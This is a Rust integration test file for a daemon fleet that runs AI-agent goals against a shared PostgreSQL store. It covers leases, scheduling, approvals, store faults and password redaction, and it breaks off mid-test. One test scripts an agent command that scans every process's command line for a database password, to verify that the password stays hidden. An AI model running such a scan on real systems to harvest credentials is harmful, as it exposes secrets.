//! A fleet of daemons on one PostgreSQL store, through the binary: exactly-once occurrences
//! across three daemon processes, leases (`kill -9` → interrupted by another daemon, and a
//! retry), overlap for manual triggers and `replace` across daemons, goal files picked up as
//! they change, history and approvals from a process that is not a daemon, the store's faults
//! (bad URL, credentials, rights, newer schema), connections cut mid-run, and outcomes kept on
//! disk while the store is away.
//!
//! Each test makes its own database on the server named by `SUP_TEST_PG` (default
//! `postgres://postgres@127.0.0.1:5432/`) and drops it at the end. A server that cannot be
//! reached fails the test.

use std::path::PathBuf;
use std::process::{Child, Command, Stdio};

use crate::common::{Killed, SpawnKilled, stop, until};
use std::time::{Duration, Instant};

use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use tempfile::TempDir;

fn base() -> String {
    let b = std::env::var("SUP_TEST_PG")
        .unwrap_or_else(|_| "postgres://postgres@127.0.0.1:5432/".into());
    if b.ends_with('/') { b } else { format!("{b}/") }
}

pub(crate) fn rt() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
}

async fn connect(url: &str) -> tokio_postgres::Client {
    let (client, conn) = match tokio_postgres::connect(url, tokio_postgres::NoTls).await {
        Ok(c) => c,
        Err(e) => panic!(
            "PostgreSQL is not reachable at {url}: {e}. Start it with \
             `pg_ctlcluster --skip-systemctl-redirect $(ls /etc/postgresql) main start`, or set \
             SUP_TEST_PG to a server's URL"
        ),
    };
    tokio::spawn(async move {
        let _ = conn.await;
    });
    client
}

/// A database of this test's own.
pub(crate) struct Pg {
    name: String,
    pub(crate) url: String,
}

impl Pg {
    pub(crate) fn new() -> Pg {
        let name = format!("sup_t_{}", fastrand::u64(..));
        rt().block_on(async {
            let c = connect(&format!("{}postgres", base())).await;
            c.batch_execute(&format!("CREATE DATABASE {name}"))
                .await
                .unwrap();
        });
        Pg {
            url: format!("{}{name}", base()),
            name,
        }
    }

    /// Rows of a query, each column as text.
    pub(crate) fn rows(&self, sql: &str) -> Vec<Vec<Option<String>>> {
        rt().block_on(async {
            let c = connect(&self.url).await;
            c.simple_query(sql)
                .await
                .unwrap()
                .into_iter()
                .filter_map(|m| match m {
                    tokio_postgres::SimpleQueryMessage::Row(r) => {
                        Some((0..r.len()).map(|i| r.get(i).map(str::to_string)).collect())
                    }
                    _ => None,
                })
                .collect()
        })
    }

    pub(crate) fn one(&self, sql: &str) -> String {
        self.rows(sql)
            .first()
            .and_then(|r| r.first().cloned().flatten())
            .unwrap_or_default()
    }

    pub(crate) fn exec(&self, sql: &str) {
        rt().block_on(async { connect(&self.url).await.batch_execute(sql).await.unwrap() });
    }

    /// How many connections to this database there are, besides the one asking.
    fn connections(&self) -> usize {
        self.one(&format!(
            "SELECT count(*) FROM pg_stat_activity
             WHERE datname = '{}' AND pid <> pg_backend_pid()",
            self.name
        ))
        .parse()
        .unwrap_or(0)
    }

    /// As the server restarting would: every connection to this database is cut.
    fn cut_connections(&self) -> usize {
        let n = self.one(&format!(
            "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity
             WHERE datname = '{}' AND pid <> pg_backend_pid()",
            self.name
        ));
        n.parse().unwrap_or(0)
    }
}

impl Drop for Pg {
    fn drop(&mut self) {
        let name = self.name.clone();
        rt().block_on(async move {
            let c = connect(&format!("{}postgres", base())).await;
            let _ = c
                .batch_execute(&format!("DROP DATABASE IF EXISTS {name} WITH (FORCE)"))
                .await;
        });
    }
}

/// Machines of a fleet: a shared goals folder, a SUP_HOME each.
pub(crate) struct Fleet {
    pub(crate) pg: Pg,
    pub(crate) goals: TempDir,
    homes: Vec<TempDir>,
    logs: TempDir,
}

impl Fleet {
    /// A fleet whose store has its schema (made on first use, by any command).
    pub(crate) fn new() -> Fleet {
        let mut f = Fleet {
            pg: Pg::new(),
            goals: tempfile::tempdir().unwrap(),
            homes: Vec::new(),
            logs: tempfile::tempdir().unwrap(),
        };
        let (code, text) = f.out(9, &["runs"]);
        assert_eq!(code, 0, "{text}");
        assert!(text.contains("no runs"), "{text}");
        f
    }

    /// A goal whose scripted model answers after `delay_ms`.
    pub(crate) fn goal(&self, name: &str, schedule: Option<&str>, delay_ms: u64, extra: &str) {
        self.goal_turns(
            name,
            schedule,
            &format!(r#"[{{"text": "done", "delay_ms": {delay_ms}}}]"#),
            extra,
        );
    }

    pub(crate) fn goal_turns(&self, name: &str, schedule: Option<&str>, turns: &str, extra: &str) {
        let dir = self.goals.path();
        std::fs::write(dir.join(format!("{name}.json")), turns).unwrap();
        let schedule = schedule
            .map(|s| format!("schedule = \"{s}\"\ntimezone = \"UTC\"\n"))
            .unwrap_or_default();
        std::fs::write(
            dir.join(format!("{name}.toml")),
            format!(
                "prompt = \"work\"\nmodel = \"script:{name}.json\"\nworkspace = \"work-{name}\"\n\
                 {schedule}tries = 1\n{extra}\n"
            ),
        )
        .unwrap();
    }

    /// `sup` as machine `m` (its own SUP_HOME and host name) against the store.
    pub(crate) fn sup(&mut self, m: usize) -> Command {
        while self.homes.len() <= m {
            self.homes.push(tempfile::tempdir().unwrap());
        }
        let mut cmd = Command::new(env!("CARGO_BIN_EXE_sup"));
        cmd.env("SUP_HOME", self.homes[m].path())
            .env("SUP_HOST", format!("m{m}"))
            .env("SUP_STORE", &self.pg.url)
            .env("SUP_APPROVAL", "auto")
            .env("SUP_CONFIG", self.logs.path().join("no-config.toml"))
            .env_remove("SUP_MODEL")
            .env_remove("RUST_LOG")
            .current_dir(self.goals.path())
            .stdin(Stdio::null());
        cmd
    }

    pub(crate) fn daemon(&mut self, m: usize, args: &[&str]) -> Killed {
        let log = std::fs::File::create(self.log(m)).unwrap();
        let goals = self.goals.path().to_path_buf();
        self.sup(m)
            .arg("daemon")
            .arg("--goals")
            .arg(goals)
            .args(args)
            .stdout(Stdio::null())
            .stderr(log)
            .spawn_killed()
    }

    pub(crate) fn log(&self, m: usize) -> PathBuf {
        self.logs.path().join(format!("daemon-m{m}.log"))
    }

    pub(crate) fn logs(&self) -> String {
        (0..self.homes.len())
            .map(|m| {
                format!(
                    "--- m{m}\n{}",
                    std::fs::read_to_string(self.log(m)).unwrap_or_default()
                )
            })
            .collect()
    }

    pub(crate) fn out(&mut self, m: usize, args: &[&str]) -> (i32, String) {
        let out = self.sup(m).args(args).output().unwrap();
        (
            out.status.code().unwrap_or(-1),
            format!(
                "{}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            ),
        )
    }
}

#[test]
fn three_daemons_fire_every_per_second_occurrence_exactly_once() {
    let mut f = Fleet::new();
    f.goal("tick", Some("* * * * * *"), 0, "");
    let ds: Vec<Killed> = (0..3).map(|m| f.daemon(m, &["--lease", "3s"])).collect();
    until("three daemons joined", 20, || {
        f.pg.one("SELECT count(*) FROM daemons WHERE state = 'alive'") == "3"
    });
    // Twelve seconds of occurrences with all three daemons racing for each.
    let start =
        f.pg.one("SELECT count(*) FROM occurrences")
            .parse::<u32>()
            .unwrap();
    until("twelve more occurrences", 30, || {
        f.pg.one("SELECT count(*) FROM occurrences")
            .parse::<u32>()
            .unwrap()
            >= start + 12
    });
    for d in ds {
        assert_eq!(stop(d), 0);
    }
    let logs = f.logs();
    // Each occurrence has one row (the key says so) and at most one run.
    let dup = f.pg.one(
        "SELECT count(*) FROM (SELECT scheduled_for FROM runs WHERE trigger = 'schedule'
         GROUP BY scheduled_for HAVING count(*) > 1) d",
    );
    assert_eq!(dup, "0", "{logs}");
    // No second between the first and the last was lost, and each ran.
    let span = f.pg.one(
        "SELECT extract(epoch FROM max(scheduled_for) - min(scheduled_for))::int + 1 FROM occurrences",
    );
    let n = f.pg.one("SELECT count(*) FROM occurrences");
    assert_eq!(span, n, "every second has its occurrence: {logs}");
    let not_run = f.pg.rows(
        "SELECT o.scheduled_for, o.status FROM occurrences o
         LEFT JOIN runs r ON r.id = o.run_id
         WHERE r.id IS NULL OR r.status <> 'achieved'",
    );
    // The last occurrences may have been cut short by the stop; all others ran to the end.
    assert!(not_run.len() <= 3, "{not_run:?}\n{logs}");
    let hosts = f.pg.one("SELECT count(DISTINCT host) FROM runs");
    assert!(hosts.parse::<u32>().unwrap() >= 1);
    let (code, text) = f.out(3, &["daemons"]);
    assert_eq!(code, 0, "{text}");
    assert_eq!(text.matches("stopped").count(), 3, "{text}");
}

#[test]
fn a_killed_daemons_run_is_interrupted_by_another_and_retried() {
    let mut f = Fleet::new();
    f.goal("long", None, 60_000, "retry_interrupted = true");
    let a = f.daemon(0, &["--lease", "2s"]);
    let b = f.daemon(1, &["--lease", "2s"]);
    until("two daemons serve the goal", 20, || {
        f.pg.one("SELECT count(*) FROM goal_versions") == "2"
    });
    let (code, text) = f.out(2, &["trigger", "long", "--goals", "."]);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("started as run"), "{text}");
    until("the run is running", 10, || {
        f.pg.one("SELECT count(*) FROM runs WHERE status = 'running'") == "1"
    });
    let host = f.pg.one("SELECT host FROM runs WHERE status = 'running'");
    let run_id = f.pg.one("SELECT id FROM runs WHERE status = 'running'");
    // Kill the daemon that runs it; the other one notices when the lease runs out.
    let (mut victim, survivor) = if host == "m0" { (a, b) } else { (b, a) };
    kill(Pid::from_raw(victim.id() as i32), Signal::SIGKILL).unwrap();
    let _ = victim.wait();
    let killed = Instant::now();
    until("the run is marked interrupted", 30, || {
        f.pg.one(&format!("SELECT status FROM runs WHERE id = '{run_id}'")) == "interrupted"
    });
    let took = killed.elapsed();
    eprintln!(
        "interrupted {}ms after kill -9 (lease 2000ms)",
        took.as_millis()
    );
    let logs = f.logs();
    assert!(
        took < Duration::from_secs(4),
        "within twice the lease: {took:?}\n{logs}"
    );
    let error =
        f.pg.one(&format!("SELECT error FROM runs WHERE id = '{run_id}'"));
    assert!(error.contains("stopped renewing its lease"), "{error}");
    assert_eq!(
        f.pg.one(&format!(
            "SELECT status FROM occurrences WHERE run_id = '{run_id}'"
        )),
        "interrupted"
    );
    // retry_interrupted: the survivor runs it again.
    let other = if host == "m0" { "m1" } else { "m0" };
    until("a retry runs on the survivor", 15, || {
        f.pg.one(&format!(
            "SELECT count(*) FROM runs WHERE id <> '{run_id}' AND status = 'running' AND host = '{other}'"
        )) == "1"
    });
    let (code, text) = f.out(2, &["daemons"]);
    assert_eq!(code, 0);
    assert!(text.contains("dead"), "{text}");
    assert!(text.contains("running long"), "{text}");
    stop(survivor);
}

#[test]
fn a_manual_trigger_during_a_scheduled_run_obeys_overlap_skip() {
    let mut f = Fleet::new();
    f.goal("slow", Some("* * * * * *"), 4_000, "overlap = \"skip\"");
    let d = f.daemon(0, &["--lease", "3s"]);
    until("a scheduled run is going", 20, || {
        f.pg.one("SELECT count(*) FROM runs WHERE status = 'running' AND trigger = 'schedule'")
            == "1"
    });
    let (code, text) = f.out(1, &["trigger", "slow", "--goals", "."]);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("not run: skipped"), "{text}\n{}", f.logs());
    assert_eq!(
        f.pg.one("SELECT count(*) FROM runs WHERE trigger = 'manual'"),
        "0"
    );
    assert_eq!(
        f.pg.one("SELECT count(*) FROM occurrences WHERE kind = 'manual' AND status = 'skipped'"),
        "1"
    );
    // Overlap across the fleet: at no time did two runs of the goal overlap.
    assert_eq!(
        f.pg.one("SELECT count(*) FROM runs WHERE goal = 'slow' AND status = 'running'"),
        "1"
    );
    stop(d);
}

#[test]
fn with_no_daemon_sup_trigger_runs_the_goal_itself_into_the_store() {
    let mut f = Fleet::new();
    f.goal("once", None, 0, "");
    let (code, text) = f.out(0, &["trigger", "once", "--goals", "."]);
    assert_eq!(code, 0, "{text}");
    assert_eq!(
        f.pg.one("SELECT status || ' ' || trigger || ' ' || host FROM runs"),
        "achieved manual m0"
    );
    // A second machine reads it.
    let id = f.pg.one("SELECT id FROM runs");
    let (code, text) = f.out(1, &["show", &id]);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("outcome: achieved"), "{text}");
    assert!(text.contains("ran on host m0"), "{text}");
    assert!(text.contains("kept outputs are there"), "{text}");
}

#[test]
fn runs_show_and_approve_work_from_a_process_that_is_not_a_daemon() {
    let mut f = Fleet::new();
    f.goal_turns(
        "w",
        Some("* * * * * *"),
        r#"[{"tool_calls": [{"name": "write_file", "input": {"path": "made.txt", "content": "x"}}]}, {"text": "written"}]"#,
        "approval = \"queue\"\noverlap = \"skip\"",
    );
    let d = f.daemon(0, &["--lease", "3s"]);
    // Another machine sees the request, through the store.
    let mut id = String::new();
    until("an approval request in the store", 20, || {
        let (_, text) = f.out(1, &["approvals", "--json"]);
        let v: serde_json::Value = serde_json::from_str(text.trim()).unwrap_or_default();
        if let Some(a) = v.as_array().and_then(|a| a.first()) {
            id = a["id"].as_str().unwrap().to_string();
            true
        } else {
            false
        }
    });
    let made = f.goals.path().join("work-w/made.txt");
    assert!(!made.exists());
    let (code, text) = f.out(1, &["approve", &id]);
    assert_eq!(code, 0, "{text}");
    until("the approved run is achieved", 15, || {
        f.pg.one("SELECT count(*) FROM runs WHERE status = 'achieved'") != "0"
    });
    assert!(made.exists());
    let by = f.pg.one(&format!(
        "SELECT decided_by FROM approvals WHERE id = '{id}'"
    ));
    assert!(by.contains("@m1"), "{by}");
    let (code, text) = f.out(1, &["runs", "--goal", "w"]);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("achieved") && text.contains("m0"), "{text}");
    let run =
        f.pg.one("SELECT id FROM runs WHERE status = 'achieved' LIMIT 1");
    let (code, text) = f.out(1, &["show", &run]);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("write_file"), "{text}");
    assert!(text.contains("outcome: achieved"), "{text}");
    // Answering twice says who answered.
    let (code, text) = f.out(1, &["approve", &id]);
    assert_eq!(code, 2, "{text}");
    assert!(text.contains("no longer waiting"), "{text}");
    stop(d);
}

#[test]
fn connections_cut_mid_run_lose_nothing_and_fire_nothing_twice() {
    let mut f = Fleet::new();
    f.goal("steady", Some("* * * * * *"), 1_500, "overlap = \"skip\"");
    let d = f.daemon(0, &["--lease", "3s"]);
    until("a run is going", 20, || {
        f.pg.one("SELECT count(*) FROM runs WHERE status = 'running'") == "1"
    });
    // As a server restart does: every connection goes, twice, the second time after the
    // daemon has connected again.
    assert!(f.pg.cut_connections() > 0);
    until("the daemon connects again", 20, || f.pg.connections() > 0);
    assert!(f.pg.cut_connections() > 0);
    until("three runs achieved after the cuts", 30, || {
        f.pg.one("SELECT count(*) FROM runs WHERE status = 'achieved'")
            .parse::<u32>()
            .unwrap()
            >= 3
    });
    assert_eq!(stop(d), 0);
    let logs = f.logs();
    assert_eq!(
        f.pg.one("SELECT count(*) FROM runs WHERE status = 'running'"),
        "0",
        "{logs}"
    );
    let dup = f.pg.one(
        "SELECT count(*) FROM (SELECT scheduled_for FROM runs GROUP BY scheduled_for HAVING count(*) > 1) d",
    );
    assert_eq!(dup, "0", "{logs}");
    // Every run the daemon made locally is in the store with its outcome.
    let local = sup::store::db::Db::open(f.homes[0].path())
        .unwrap()
        .runs(None, None, 1000)
        .unwrap();
    for r in local
        .iter()
        .filter(|r| r.status != sup::store::RunStatus::Running)
    {
        let stored = f.pg.one(&format!(
            "SELECT status FROM runs WHERE local_id = '{}'",
            r.id
        ));
        assert_eq!(
            stored,
            r.status.as_str(),
            "run {} in the store\n{logs}",
            r.id
        );
        let events = f.pg.one(&format!(
            "SELECT count(*) FROM events e JOIN runs x ON x.id = e.run_id WHERE x.local_id = '{}'",
            r.id
        ));
        assert_ne!(events, "0", "{logs}");
    }
}

#[test]
fn an_outcome_the_store_cannot_take_waits_on_disk_and_is_written_later() {
    let mut f = Fleet::new();
    f.goal("late", None, 2_000, "");
    let d = f
        .sup(0)
        .env("SUP_STORE_RETRY", "500ms")
        .arg("daemon")
        .arg("--goals")
        .arg(f.goals.path())
        .args(["--lease", "3s"])
        .stdout(Stdio::null())
        .stderr(std::fs::File::create(f.log(0)).unwrap())
        .spawn_killed();
    until("the daemon serves the goal", 20, || {
        f.pg.one("SELECT count(*) FROM goal_versions") == "1"
    });
    let (code, text) = f.out(1, &["trigger", "late", "--goals", "."]);
    assert_eq!(code, 0, "{text}");
    // The store goes away while the run works: once it has started (before, the run cannot
    // start, and that is what the spool records).
    until("the run works", 20, || {
        f.pg.one("SELECT status FROM runs") == "running"
    });
    f.pg.admin(&format!(
        "ALTER DATABASE {} WITH ALLOW_CONNECTIONS false",
        f.pg.name
    ));
    f.pg.cut_connections_admin();
    let spool = f.homes[0].path().join("fleet-spool");
    until("the outcome waits on disk", 20, || {
        std::fs::read_dir(&spool).is_ok_and(|d| d.count() == 1)
    });
    f.pg.admin(&format!(
        "ALTER DATABASE {} WITH ALLOW_CONNECTIONS true",
        f.pg.name
    ));
    until("the outcome is written", 20, || {
        f.pg.one("SELECT status FROM runs") == "achieved"
    });
    until("the spool is empty", 10, || {
        std::fs::read_dir(&spool).is_ok_and(|d| d.count() == 0)
    });
    stop(d);
}

impl Pg {
    /// A statement on the server's `postgres` database.
    fn admin(&self, sql: &str) {
        rt().block_on(async {
            connect(&format!("{}postgres", base()))
                .await
                .batch_execute(sql)
                .await
                .unwrap()
        });
    }

    fn cut_connections_admin(&self) {
        self.admin(&format!(
            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE datname = '{}'",
            self.name
        ));
    }
}

#[test]
fn store_faults_exit_2_with_the_servers_words_and_what_to_check() {
    let mut f = Fleet::new();
    f.goal("g", None, 0, "");
    let bad = |f: &mut Fleet, url: &str| {
        let out = f
            .sup(0)
            .env("SUP_STORE", url)
            .args(["runs"])
            .output()
            .unwrap();
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    // Nothing listens there.
    let (code, text) = bad(&mut f, "postgres://postgres@127.0.0.1:1/x");
    assert_eq!(code, 2, "{text}");
    assert!(text.contains("pg_isready"), "{text}");
    // No such database.
    let (code, text) = bad(&mut f, &format!("{}sup_t_no_such_db", base()));
    assert_eq!(code, 2, "{text}");
    assert!(
        text.contains("does not exist") && text.contains("database name"),
        "{text}"
    );
    // No such user.
    let url = base().replacen("postgres@", "sup_t_nobody@", 1);
    let url = format!("{url}{}", f.pg.name);
    let (code, text) = bad(&mut f, &url);
    assert_eq!(code, 2, "{text}");
    assert!(
        text.contains("sup_t_nobody") && text.contains("user"),
        "{text}"
    );
    // Not a PostgreSQL URL at all.
    let (code, text) = bad(&mut f, "mysql://x");
    assert_eq!(code, 2, "{text}");
    assert!(text.contains("not a PostgreSQL URL"), "{text}");
    // A user without rights to create the schema.
    let role = format!("{}_ro", f.pg.name);
    f.pg.admin(&format!("CREATE ROLE {role} LOGIN"));
    f.pg.exec(&format!(
        "REVOKE CREATE ON SCHEMA public FROM PUBLIC; REVOKE ALL ON SCHEMA public FROM {role}"
    ));
    let url = base().replacen("postgres@", &format!("{role}@"), 1);
    let url = format!("{url}{}", f.pg.name);
    let (code, text) = bad(&mut f, &url);
    f.pg.admin(&format!("DROP OWNED BY {role}; DROP ROLE {role}"));
    assert_eq!(code, 2, "{text}");
    assert!(
        text.contains("permission denied") && text.contains("GRANT"),
        "{text}"
    );
}

/// A store URL that cannot be used is named in the error without its password: the error
/// goes to a daemon's log.
#[test]
fn a_bad_store_url_is_named_without_its_password() {
    let mut f = Fleet::new();
    for url in [
        "postgres://sup:s3cret-pw@127.0.0.1:notaport/db",
        "postgres://sup@127.0.0.1:notaport/db?password=s3cret-pw",
        "postgress://sup:s3cret-pw@127.0.0.1/db",
    ] {
        for args in [&["runs"][..], &["daemon", "--goals", "."]] {
            let out = f.sup(0).env("SUP_STORE", url).args(args).output().unwrap();
            let text = String::from_utf8_lossy(&out.stderr).into_owned();
            assert_eq!(out.status.code(), Some(2), "{url}: {text}");
            assert!(text.contains("127.0.0.1"), "{url}: {text}");
            assert!(!text.contains("s3cret-pw"), "{url}: {text}");
        }
    }
}

/// `--store` with a password on the command line: the agent's commands, which can read
/// every process's command line, do not find the password in sup's.
#[test]
fn a_store_password_on_the_command_line_is_hidden_from_the_agents_commands() {
    let mut f = Fleet::new();
    let url = f.pg.url.replacen("postgres@", "postgres:hunter2-pw@", 1);
    assert!(url.contains("hunter2-pw"), "{url}");
    std::fs::write(
        f.goals.path().join("turns.json"),
        serde_json::json!([
            {"tool_calls": [{"id": "ps", "name": "run_command", "input": {"command":
                "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done 2>/dev/null | grep -- --store"}}]},
            {"text": "done"}
        ])
        .to_string(),
    )
    .unwrap();
    std::fs::write(f.goals.path().join("g.toml"), "prompt = \"work\"\n").unwrap();
    let out = f
        .sup(0)
        .env_remove("SUP_STORE")
        .args([
            "--store",
            &url,
            "goal",
            "--file",
            "g.toml",
            "--workspace",
            ".",
        ])
        .args(["--tries", "1", "--json", "--model", "script:turns.json"])
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert_eq!(
        out.status.code(),
        Some(0),
        "{stdout}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let seen = stdout
        .lines()
        .find(|l| l.contains("\"tool_result\""))
        .unwrap_or_else(|| panic!("{stdout}"));
    // The command looked at every process it can see (in the run's jail, sup is not one of
    // them); none showed the password.
    assert!(seen.contains("exit"), "the command did not run: {seen}");
    assert!(!seen.contains("hunter2-pw"), "{seen}");
}

#[test]
fn a_store_with_a_newer_schema_is_refused() {
    let mut f = Fleet::new();
    let (code, text) = f.out(0, &["runs"]);
    assert_eq!(code, 0, "{text}");
    assert_eq!(f.pg.one("SELECT version FROM sup_schema"), "4");
    f.pg.exec("UPDATE sup_schema SET version = 99");
    let (code, text) = f.out(0, &["runs"]);
    assert_eq!(code, 2, "{text}");
    assert!(
        text.contains("schema version 99") && text.contains("upgrade sup"),
        "{text}"
    );
}

#[test]
fn daemons_with_different_versions_of_a_goal_say_so_and_the_newest_schedules() {
    let mut f = Fleet::new();
    // Two machines, each with its own copy of the goal folder.
    let other = tempfile::tempdir().unwrap();
    f.goal("v", Some("* * * * * *"), 0, "");
    let a = f.daemon(0, &["--lease", "3s"]);
    until("m0 serves v", 20, || {
        f.pg.one("SELECT count(*) FROM goal_versions") == "1"
    });
    for e in std::fs::read_dir(f.goals.path()).unwrap() {
        let p = e.unwrap().path();
        if p.is_file() {
            std::fs::copy(&p, other.path().join(p.file_name().unwrap())).unwrap();
        }
    }
    let toml = other.path().join("v.toml");
    let text = std::fs::read_to_string(&toml).unwrap();
    std::fs::write(
        &toml,
        text.replace("prompt = \"work\"", "prompt = \"work harder\""),
    )
    .unwrap();
    // The newer version: modified two seconds after m0's copy.
    let m0_modified = std::fs::metadata(f.goals.path().join("v.toml"))
        .unwrap()
        .modified()
        .unwrap();
    std::fs::File::options()
        .write(true)
        .open(&toml)
        .unwrap()
        .set_modified(m0_modified + Duration::from_secs(2))
        .unwrap();
    let log = std::fs::File::create(f.log(1)).unwrap();
    let b = f
        .sup(1)
        .args(["daemon", "--lease", "3s", "--goals"])
        .arg(other.path())
        .stdout(Stdio::null())
        .stderr(log)
        .spawn_killed();
    until("both versions published", 20, || {
        f.pg.one("SELECT count(DISTINCT hash) FROM goal_versions WHERE goal = 'v'") == "2"
    });
    let since = f.pg.one("SELECT now()");
    until("m1 (the newer version) runs v", 20, || {
        f.pg.one(&format!(
            "SELECT count(*) FROM runs WHERE host = 'm1' AND created_at > '{since}'"
        )) != "0"
    });
    let (code, text) = f.out(2, &["goals", "--goals", "."]);
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("different versions"), "{text}");
    stop(a);
    stop(b);
    assert!(f.logs().contains("different versions"), "{}", f.logs());
}

#[test]
fn a_goal_with_tags_runs_only_on_daemons_that_have_them() {
    let mut f = Fleet::new();
    f.goal(
        "train",
        Some("* * * * * *"),
        0,
        "tags = [\"gpu\"]\noverlap = \"allow\"",
    );
    let plain = f.daemon(0, &["--lease", "3s"]);
    let gpu = f.daemon(1, &["--lease", "3s", "--tags", "gpu,docker"]);
    until("four runs", 20, || {
        f.pg.one("SELECT count(*) FROM runs WHERE status = 'achieved'")
            .parse::<u32>()
            .unwrap()
            >= 4
    });
    stop(plain);
    stop(gpu);
    assert_eq!(
        f.pg.one("SELECT string_agg(DISTINCT host, ',') FROM runs"),
        "m1",
        "{}",
        f.logs()
    );
    let (code, text) = f.out(2, &["daemons"]);
    assert_eq!(code, 0);
    assert!(text.contains("tags [gpu, docker]"), "{text}");
}

/// The same history cases against both backends: SQLite under SUP_HOME (no --store) and
/// PostgreSQL (--store), through the same commands.
#[test]
fn the_same_history_cases_pass_on_sqlite_and_postgresql() {
    let mut f = Fleet::new();
    f.goal("once", None, 0, "");
    for pg in [false, true] {
        let m = if pg { 0 } else { 1 };
        let sup = |f: &mut Fleet, args: &[&str]| {
            let mut cmd = f.sup(m);
            if !pg {
                cmd.env_remove("SUP_STORE");
            }
            let out = cmd.args(args).output().unwrap();
            (
                out.status.code().unwrap_or(-1),
                String::from_utf8_lossy(&out.stdout).into_owned(),
                String::from_utf8_lossy(&out.stderr).into_owned(),
            )
        };
        let which = if pg { "postgresql" } else { "sqlite" };
        let (code, _, err) = sup(&mut f, &["trigger", "once", "--goals", "."]);
        assert_eq!(code, 0, "{which}: {err}");
        let (code, out, err) = sup(&mut f, &["runs", "--json"]);
        assert_eq!(code, 0, "{which}: {err}");
        let runs: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
        let runs = runs.as_array().unwrap();
        assert_eq!(runs.len(), 1, "{which}: {out}");
        assert_eq!(runs[0]["status"], "achieved", "{which}");
        assert_eq!(runs[0]["trigger"], "manual", "{which}");
        assert_eq!(runs[0]["goal"], "once", "{which}");
        let id = runs[0]["run_id"].as_str().unwrap().to_string();
        // One vocabulary, one id: the run is `run_id` with `cost_usd`, `status` and
        // `stop_reason` in `runs`, and `sup goals` names the same run by the same id.
        for key in ["cost_usd", "status", "stop_reason"] {
            assert!(runs[0].get(key).is_some(), "{which}: no {key} in {out}");
        }
        assert!(
            runs[0].get("id").is_none() && runs[0].get("cost").is_none(),
            "{which}: {out}"
        );
        let (code, out, err) = sup(&mut f, &["goals", "--json", "--goals", "."]);
        assert_eq!(code, 0, "{which}: {err}");
        let goals: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
        assert_eq!(goals[0]["last"]["run_id"], id.as_str(), "{which}: {out}");
        assert_eq!(goals[0]["skipped_while_paused"], 0, "{which}: {out}");
        let (code, out, _) = sup(&mut f, &["show", &id]);
        assert_eq!(code, 0, "{which}");
        assert!(out.contains("outcome: achieved (final)"), "{which}: {out}");
        assert!(out.contains("goal once · manual"), "{which}: {out}");
        // One `sup show` for both: the same outcome line, word for word.
        assert!(out.contains(" · 1 try · "), "{which}: {out}");
        let (code, _, err) = sup(&mut f, &["show", "no-such-run"]);
        assert_eq!(code, 2, "{which}");
        assert!(err.contains("no run `no-such-run`"), "{which}: {err}");
        let (code, out, _) = sup(&mut f, &["runs", "--status", "failed"]);
        assert_eq!(code, 0, "{which}");
        assert!(out.contains("no runs"), "{which}: {out}");
        let (code, out, _) = sup(&mut f, &["approvals"]);
        assert_eq!(code, 0, "{which}");
        assert!(
            out.contains("no approval requests are waiting"),
            "{which}: {out}"
        );
        let (code, _, err) = sup(&mut f, &["approve", "nope"]);
        assert_eq!(code, 2, "{which}");
        assert!(err.contains("no approval request `nope`"), "{which}: {err}");
        let (code, out, _) = sup(&mut f, &["pause", "once", "--goals", "."]);
        assert_eq!(code, 0, "{which}");
        assert!(out.contains("paused"), "{which}: {out}");
        let (code, _, _) = sup(&mut f, &["resume", "once", "--goals", "."]);
        assert_eq!(code, 0, "{which}");
    }
}

fn signal(child: &Child, sig: Signal) {
    kill(Pid::from_raw(child.id() as i32), sig).unwrap();
}

/// `sup trigger NAME` handed to the fleet: the run it started.
fn trigger(f: &mut Fleet, name: &str) -> String {
    let (code, text) = f.out(2, &["trigger", name, "--goals", "."]);
    assert_eq!(code, 0, "{text}");
    text.split("started as run ")
        .nth(1)
        .and_then(|t| t.split_whitespace().next())
        .unwrap_or_else(|| panic!("{text}\n{}", f.logs()))
        .to_string()
}

#[test]
fn overlap_replace_cancels_the_running_one_on_whichever_daemon_runs_it() {
    let mut f = Fleet::new();
    f.goal("long", None, 60_000, "overlap = \"replace\"");
    let a = f.daemon(0, &["--lease", "10s"]);
    let b = f.daemon(1, &["--lease", "10s"]);
    until("two daemons serve the goal", 20, || {
        f.pg.one("SELECT count(*) FROM goal_versions") == "2"
    });
    let host = |f: &Fleet, run: &str| {
        f.pg.one(&format!("SELECT host FROM runs WHERE id = '{run}'"))
    };
    let first = trigger(&mut f, "long");
    let first_host = host(&f, &first);
    let runs_first = if first_host == "m0" { &a } else { &b };
    // Claimed by the other daemon: the one that runs the first is stopped meanwhile, and its
    // `LISTEN` connection is cut, so that the cancel request reaches it only through the
    // store, at its next lease renewal.
    signal(runs_first, Signal::SIGSTOP);
    let listening = f.pg.one(&format!(
        "SELECT string_agg(pid::text, ',') FROM pg_stat_activity
         WHERE datname = '{}' AND query LIKE 'LISTEN%'",
        f.pg.name
    ));
    assert!(!listening.is_empty(), "no LISTEN connection to cut");
    f.pg.one(&format!(
        "SELECT count(pg_terminate_backend(pid)) FROM pg_stat_activity WHERE pid IN ({listening})"
    ));
    until("the LISTEN connections are gone", 20, || {
        f.pg.one(&format!(
            "SELECT count(*) FROM pg_stat_activity WHERE pid IN ({listening})"
        )) == "0"
    });
    let second = trigger(&mut f, "long");
    signal(runs_first, Signal::SIGCONT);
    assert_ne!(host(&f, &second), first_host, "{}", f.logs());
    until("the first run is cancelled", 20, || {
        f.pg.one(&format!("SELECT status FROM runs WHERE id = '{first}'")) == "interrupted"
    });
    let logs = f.logs();
    assert_eq!(
        f.pg.one(&format!(
